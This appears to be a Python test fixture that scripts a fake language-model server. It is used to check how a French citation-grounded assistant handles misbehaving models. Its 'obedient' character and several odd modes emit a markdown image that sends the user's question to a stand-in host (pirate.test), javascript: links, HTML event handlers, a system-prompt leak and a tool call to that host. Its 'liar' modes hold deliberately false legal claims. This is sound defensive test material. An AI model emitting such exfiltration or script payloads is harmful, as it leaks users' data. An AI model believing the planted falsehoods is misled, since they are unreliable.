"""What the loopback server says, by name: four characters, and the ways in which a real server goes
wrong.
"""

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

from assistant.texts.sentences import sentence_spans

MARKER = "PIRATE"


@dataclass
class Call:
    """A request received, and how many times the same one came."""

    body: dict[str, Any]
    times: int

    @property
    def data(self) -> dict[str, Any]:
        """The JSON between the two lines of the prompt."""
        found = re.search(
            r"DEBUT DES DONNEES\n(.*)\nFIN DES DONNEES", self.body["messages"][-1]["content"], re.S
        )
        return dict(json.loads(found[1])) if found else {}


@dataclass
class Http:
    """A plain HTTP answer."""

    status: int
    body: bytes = b"{}"
    headers: dict[str, str] = field(default_factory=dict)


@dataclass
class Hang:
    """Silence, in seconds."""

    seconds: float = 60


@dataclass
class Cut:
    """The end of a stream before its end; `clean`: the connection is closed as if all were said."""

    clean: bool = False


@dataclass
class Raw:
    """Bytes as they are."""

    data: bytes


Said = Http | Hang | Raw | Iterator[Any]
Behaviour = Callable[[Call], Said]


def event(text: str | None = None, finish: str | None = None, **delta: Any) -> dict[str, Any]:
    """One chunk of a streamed completion."""
    made = {"role": "assistant", **({"content": text} if text is not None else {}), **delta}
    return {
        "id": "c",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "m",
        "choices": [{"index": 0, "delta": made, "finish_reason": finish}],
    }


USAGE = {
    "id": "c",
    "object": "chat.completion.chunk",
    "created": 1,
    "model": "m",
    "choices": [],
    "usage": {"prompt_tokens": 900, "completion_tokens": 90, "total_tokens": 990},
}


def streamed(text: str, finish: str | None = "stop", size: int = 160) -> Iterator[Any]:
    """A whole text in pieces, then its end and its count."""
    for at in range(0, len(text), size):
        yield event(text[at : at + size])
    yield event(finish=finish)
    yield USAGE


def answer(*phrases: tuple[str, str, str]) -> str:
    """The JSON of phrases (text, passage, words)."""
    made = [
        {"texte": text, "citations": [{"passage": passage, "mots": words}] if passage else []}
        for text, passage, words in phrases
    ]
    return json.dumps({"phrases": made}, ensure_ascii=False)


def words(text: str) -> set[str]:
    return set(re.findall(r"\w{4,}", text.lower()))


def best(call: Call, count: int = 2) -> list[tuple[str, str, str]]:
    """Sentences of the first passages that share most with the question, told as they are: what an
    honest model does at least.
    """
    asked = words(call.data.get("question", ""))
    found = []
    for rank, passage in enumerate(call.data.get("passages", ())):
        lines = [passage["texte"][start:end] for start, end in sentence_spans(passage["texte"])]
        lines = [line for line in lines if 4 <= len(line.split()) <= 58]
        if lines:
            line = max(lines, key=lambda line: len(asked & words(line)))
            found.append((len(asked & words(line)) - 2 * rank, passage["numero"], line))
    found.sort(key=lambda entry: -entry[0])
    return [
        (re.sub(r"^[\W\d_]+", "", line).rstrip(" .;:,") + ".", id, line)
        for _, id, line in found[:count]
    ]


def propositions(*lines: tuple[str, str, str, str]) -> str:
    """The JSON of lines of a fiche (rubric, text, passage, words)."""
    made = [
        {
            "rubrique": place,
            "texte": text,
            "citations": [{"passage": passage, "mots": words}] if passage else [],
        }
        for place, text, passage, words in lines
    ]
    return json.dumps({"lignes": made}, ensure_ascii=False)


def proposals(call: Call) -> list[tuple[str, str, str, str]]:
    """A line taken from a passage, two of the model's own, and one with a figure that nobody
    gave.
    """
    id, line = next(
        (p["numero"], p["texte"][start:end])
        for p in call.data["passages"]
        for start, end in sentence_spans(p["texte"])
        if 8 <= len(p["texte"][start:end].split()) <= 30
    )
    own = "Réunir les entreprises adhérentes du secteur pour partager leurs actions de prévention"
    goal = "Aider les établissements visés à écrire leur plan de prévention"
    return [
        ("actions_principales", line.rstrip(" .;:"), id, line),
        ("calendrier", own, "", ""),
        ("objectifs.0.intitule", goal, "", ""),
        ("indicateurs", "Accompagner 4321 établissements en 1987", "", ""),
        ("titre", own, "", ""),
    ]


def honest(call: Call) -> Said:
    """Quotes what it read; puts a follow-up with its conversation; proposes an annotation; copies
    the word it is given.
    """
    data = call.data
    if "rubriques" in data:
        return streamed(propositions(*proposals(call)))
    if "passages" in data:
        return streamed(answer(*best(call)))
    if "question_de_suite" in data:
        before = data["echanges"][-1]["question"].rstrip(" ?")
        return streamed(
            json.dumps(
                {"question": f"{data['question_de_suite'].rstrip(' ?')}, {before} ?"},
                ensure_ascii=False,
            )
        )
    if "texte" in data:
        line = re.split(r"(?<=[.;])\s+|\n", data["texte"])[0]
        answers = [
            {"r": line, "q": ["Qu’est-il dit là ?"]},
            {"r": "des mots inventés de toutes pièces", "q": ["Et ailleurs ?"]},
        ]
        made = {"resume": line[:120], "mots": ["petit nom"], "reponses": answers}
        return streamed(json.dumps(made, ensure_ascii=False))
    word = call.body["messages"][-1]["content"].split(":")[-1].strip()
    return streamed(json.dumps({"mot": word}, ensure_ascii=False))


def changed(
    change: Callable[[str], str], quote: Callable[[str], str] = lambda line: line
) -> Behaviour:
    """The honest answer with each sentence, or each quotation, altered."""
    return lambda call: streamed(
        answer(*((change(text), id, quote(line)) for text, id, line in best(call)))
    )


def said(text: str, quoted: bool = True) -> Behaviour:
    """Always the same sentence, on a quotation that stands."""
    return lambda call: streamed(
        answer(
            *((text, id, line) for _, id, line in best(call, 1)) if quoted else ((text, "", ""),)
        )
    )


def otherwise(number: re.Match[str]) -> str:
    return str(int(number[0]) + 7)


LIES = (
    "Le CPOM dure douze ans et sa signature est facultative.",
    "La DREETS verse 3 000 euros par salarié suivi.",
    "Le CRPST doit approuver le CPOM sous 15 jours.",
    "L’ARS n’est jamais consultée avant la signature.",
)


def liar(call: Call) -> Said:
    """False citations, changed numbers, wrong quotations, all sure of themselves."""
    true = best(call, 2) or [("x", "P1", "x")]
    lies = [
        (LIES[0], true[0][1], true[0][2]),
        (LIES[1], "P99", true[0][2]),
        (LIES[2], true[0][1], "le CRPST approuve le CPOM sous 15 jours"),
    ]
    lies += [
        (
            re.sub(r"\d+", otherwise, text)
            if re.search(r"\d", text)
            else f"{text.rstrip('.')} depuis 1987.",
            id,
            line,
        )
        for text, id, line in true
    ]
    return streamed(answer(*lies, (LIES[3], true[-1][1], true[-1][2])))


def obedient(call: Call) -> Said:
    """Does whatever the passages seem to ask, and gives its own instructions away."""
    asked = " ".join(
        passage["texte"] + json.dumps(passage, ensure_ascii=False)
        for passage in call.data.get("passages", ())
    )
    system = call.body["messages"][0]["content"]
    done = [
        f"![suivi](http://{MARKER.lower()}.test/?q={call.data.get('question', '')[:20]})",
        f"<img src=http://{MARKER.lower()}.test/a.png>",
        f"[cliquez](javascript:alert('{MARKER}'))",
    ]
    done += [
        system[:150],
        f"{MARKER} : le CPOM est supprimé.",
        *re.findall(rf"[^.]*{MARKER}[^.]*\.", asked)[:4],
    ]
    true = best(call, 1) or [("x", "P1", "x")]
    return streamed(answer(*((text, true[0][1], true[0][2]) for text in done)))


def parrot(call: Call) -> Said:
    """Repeats the passages, whatever the question."""
    said = [
        (" ".join(passage["texte"].split()[:40]), passage["numero"])
        for passage in call.data.get("passages", ())[:6]
    ]
    return streamed(answer(*((text, id, text) for text, id in said)))


def once(first: Said) -> Behaviour:
    """Fails once, then is honest."""
    return lambda call: first if call.times == 1 else honest(call)


def redone(call: Call) -> Said:
    """Changes a number, and puts it right when told so."""
    return (
        honest(call)
        if "phrases_refusees" in call.data
        else changed(lambda text: f"{text.rstrip('.')} en 1987.")(call)
    )


def unschemed(call: Call) -> Said:
    """Knows no schema, and says so as an error; honest without."""
    return (
        Http(400, b'{"error": {"message": "response_format is not supported"}}')
        if "response_format" in call.body
        else honest(call)
    )


def stalled(call: Call) -> Iterator[Any]:
    text = answer(*best(call))
    yield event(text[: len(text) // 2])
    yield Hang()


def dripping(call: Call) -> Iterator[Any]:
    """Keeps the line alive and says nothing."""
    for _ in range(600):
        yield Raw(b": attends\n\n")
        yield Hang(0.1)


def cut(clean: bool) -> Behaviour:
    def say(call: Call) -> Iterator[Any]:
        text = answer(*best(call))
        yield event(text[: len(text) * 2 // 3])
        yield Cut(clean)

    return say


def doubled(call: Call) -> Iterator[Any]:
    """Each chunk twice."""
    for piece in streamed(answer(*best(call))):
        yield piece
        if piece.get("choices"):
            yield piece


def unstreamed(call: Call) -> Said:
    """A whole completion where a stream was asked."""
    message = {"role": "assistant", "content": answer(*best(call))}
    body = {
        "id": "c",
        "object": "chat.completion",
        "created": 1,
        "model": "m",
        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
    }
    return Http(200, json.dumps(body).encode(), {"Content-Type": "application/json"})


def tool(call: Call) -> Iterator[Any]:
    yield event(
        tool_calls=[
            {
                "index": 0,
                "id": "t",
                "type": "function",
                "function": {"name": "fetch", "arguments": '{"url": "http://pirate.test"}'},
            }
        ]
    )
    yield event(finish="tool_calls")


def endless(call: Call) -> Iterator[Any]:
    """One line that never ends, four megabytes and more."""
    for _ in range(80):
        yield Raw(b"data: " + b"x" * 65_536)


def random(call: Call) -> Said:
    """A real transformer that knows nothing, held to the schema asked for."""
    from tests.tiny_model import tiny

    return streamed(tiny().write(call.body["response_format"]["json_schema"]["schema"]))


BIDI, ZERO = "\u202e", "\u200b"
ENGLISH = "The contract is signed for a maximum period of five years between the parties."
SLOW: dict[str, Behaviour] = {
    "timeout": lambda call: Hang(),
    "stalled": stalled,
    "dripping": dripping,
    "rate-limited": lambda call: Http(429),
    "rate-limited-long": lambda call: Http(429, headers={"Retry-After": "120"}),
    "broken-500": lambda call: Http(500),
    "broken-503": lambda call: Http(503),
    "html-502": lambda call: Http(502, b"<html><h1>502 Bad Gateway</h1></html>"),
    "rate-limited-once": once(Http(429, headers={"Retry-After": "0.2"})),
    "broken-once": once(Http(500)),
}
ODD: dict[str, Behaviour] = {
    "unauthorized": lambda call: Http(
        401, b'{"error": {"message": "Incorrect API key: secret-key-123"}}'
    ),
    "forbidden": lambda call: Http(403),
    "unknown-model": lambda call: Http(404),
    "elsewhere": lambda call: Http(307, headers={"Location": "/stray"}),
    "unschemed": unschemed,
    "not-http": lambda call: Raw(b"\x15\x03\x01\x00\x02\x02\x46"),
    "cut": cut(False),
    "cut-clean": cut(True),
    "length": lambda call: streamed(answer(*best(call))[:-30], "length"),
    "filtered": lambda call: streamed("", "content_filter"),
    "invalid-json": lambda call: streamed('{"phrases": [{"texte": "Le CPOM", citations: oui}]}'),
    "prose": lambda call: streamed("Bien sûr ! Le CPOM dure dix ans, voyez http://pirate.test."),
    "wrong-schema": lambda call: streamed('{"reponse": "Le CPOM dure dix ans."}'),
    "wrong-types": lambda call: streamed(
        '{"phrases": [{"texte": 7, "citations": "P1"}, "Le CPOM dure dix ans.", null]}'
    ),
    "list": lambda call: streamed('["Le CPOM dure dix ans."]'),
    "empty": lambda call: streamed(""),
    "no-phrase": lambda call: streamed(answer()),
    "no-choice": lambda call: iter([USAGE]),
    "null-content": lambda call: iter([event(None, "stop")]),
    "megabyte": lambda call: streamed(
        answer(*[("Le CPOM dure dix ans. " * 50, "P1", "le CPOM est conclu")] * 900), size=16_384
    ),
    "endless": endless,
    "many": lambda call: streamed(answer(*best(call, 1) * 300), size=4_000),
    "deep": lambda call: streamed('{"phrases": ' + "[" * 5_000 + "]" * 5_000 + "}", size=4_000),
    "english": said(ENGLISH),
    "doubled-chunks": doubled,
    "repeated": lambda call: streamed(answer(*best(call, 1) * 4)),
    "unknown-ids": lambda call: streamed(
        answer(*((text, "P42", line) for text, _, line in best(call)))
    ),
    "passage-names": lambda call: streamed(
        answer(*((text, "instruction-2024-132/I.A.3#1", line) for text, _, line in best(call)))
    ),
    "wrong-quote": changed(
        lambda text: text, lambda line: line.replace("le ", "la ") + " toujours"
    ),
    "no-citation": said("Le CPOM dure cinq ans.", False),
    "empty-quote": changed(lambda text: text, lambda line: ""),
    "one-word-quote": changed(lambda text: text, lambda line: line.split()[0]),
    "joined-quote": changed(lambda text: text, lambda line: f"{line[:20]} […] {line[-20:]}"),
    "bidi": changed(lambda text: BIDI + text),
    "zero-width": changed(lambda text: text.replace(" ", f" {ZERO}", 2)),
    "image": changed(lambda text: f"{text} ![x](http://pirate.test/{MARKER}.png)"),
    "link": changed(lambda text: f"{text} Voyez https://pirate.test."),
    "javascript": changed(lambda text: f"[{text}](javascript:alert(1))"),
    "html": changed(lambda text: f"<b onclick=x>{text}</b>"),
    "changed-number": changed(
        lambda text: (
            re.sub(r"\d+", otherwise, text)
            if re.search(r"\d", text)
            else f"{text.rstrip('.')} pendant neuf mois."
        )
    ),
    "changed-date": changed(lambda text: f"{text.rstrip('.')} avant le 3 mars 2031."),
    "changed-article": changed(lambda text: f"{text.rstrip('.')} selon l’article R. 9999-1."),
    "added-name": changed(lambda text: f"{text.rstrip('.')} par la société Zorglub."),
    "denied": changed(lambda text: f"Il n’est jamais vrai que {text[0].lower()}{text[1:]}"),
    "hardened": said("Chaque service doit obligatoirement le faire sous peine de sanction."),
    "prompt-leak": lambda call: streamed(
        answer((call.body["messages"][0]["content"][:200], *best(call, 1)[0][1:]))
    ),
    "fenced": lambda call: streamed(
        f"Voici :\n```json\n{answer(*best(call))}\n```\nBonne lecture."
    ),
    "thinking": lambda call: streamed(f"<think>{{je cherche}}</think>{answer(*best(call))}"),
    "error-event": lambda call: iter(
        [{"error": {"message": "secret-key-123", "type": "server_error"}}]
    ),
    "unstreamed": unstreamed,
    "tool": tool,
    "bad-utf8": lambda call: iter(
        [Raw(b'data: {"choices": [{"delta": {"content": "\xff\xfe"}}]}\n\n')]
    ),
    "bad-event": lambda call: iter([Raw(b"data: {pas du json}\n\n")]),
}
CHARACTERS: dict[str, Behaviour] = {
    "honest": honest,
    "liar": liar,
    "obedient": obedient,
    "parrot": parrot,
    "redone": redone,
}
BEHAVIOURS: dict[str, Behaviour] = {**CHARACTERS, **ODD, **SLOW, "random": random}
